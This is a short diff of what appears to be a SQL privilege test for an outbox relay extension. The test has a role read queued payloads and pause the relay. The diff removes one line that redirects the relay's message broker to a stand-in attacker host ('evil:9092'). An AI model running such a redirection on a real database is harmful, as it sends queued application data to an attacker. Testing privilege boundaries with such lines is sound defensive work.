@@ -48,7 +48,6 @@ SELECT payload FROM edu_outbox.outbox;
 SELECT payload FROM edu_outbox.dead_letter;
 UPDATE edu_outbox.relay_state SET paused = true;
 SELECT edu_outbox.set_paused(true);
-ALTER SYSTEM SET edu_outbox.brokers = 'evil:9092';
 RESET ROLE;
 
 SELECT payload FROM edu_outbox.outbox WHERE topic = 'roles-dl' ORDER BY id;
